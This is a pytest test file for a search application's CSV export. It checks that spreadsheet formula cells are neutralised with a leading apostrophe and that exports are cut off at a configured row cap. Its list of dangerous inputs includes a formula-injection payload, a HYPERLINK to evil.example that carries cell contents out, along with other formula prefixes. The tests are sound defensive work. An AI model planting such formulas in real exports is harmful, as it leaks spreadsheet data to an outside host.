"""The CSV export: what Excel opens, nothing it would run as a formula, a cap it says it hit."""

import csv
import io

import pytest

from search_app import create_app
from search_app.export import BOM, COLUMNS, csv_file, neutralised
from search_core.results import Hit

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def hit(text, title="通报", n=1):
    return Hit(notice_id="abc", n=n, title=title, issuer="单位", published="2024-01-01", text=text, headings=["一、"],
               category="", role="", problem_types=[], province="", city="", county="", level="县", year="2024",
               score=1.0)


def rows(data):
    return list(csv.reader(io.StringIO(data.read().decode("utf-8").removeprefix(BOM))))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    assert neutralised(cell) == "'" + cell
    header, row = rows(csv_file([hit(cell, title=cell)], 10))
    assert header == list(COLUMNS)
    assert row[COLUMNS.index("正文")] == "'" + cell and row[COLUMNS.index("通报标题")] == "'" + cell


@pytest.mark.parametrize("cell", ["差旅费", "2024-01-01", "（一）=", "a-b", "", "'=1"])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralised(cell) == cell


def test_an_export_is_cut_at_the_cap_and_says_so():
    header, *body = rows(csv_file((hit(f"第{i}段", n=i) for i in range(1, 100)), 5))
    assert [r[COLUMNS.index("正文")] for r in body[:5]] == [f"第{i}段" for i in range(1, 6)]
    assert len(body) == 6 and "只导出了前 5 行" in body[5][0]


def test_the_api_export_honours_the_cap_setting(data_dir, index_dir):
    client = create_app({"TESTING": True, "DATA_DIR": data_dir, "INDEX_DIR": index_dir, "EXPORT_MAX_ROWS": 3}).test_client()
    response = client.get("/api/search.csv?q=整改")
    header, *body = rows(io.BytesIO(response.data))
    assert len(body) == 4 and "只导出了前 3 行" in body[-1][0]
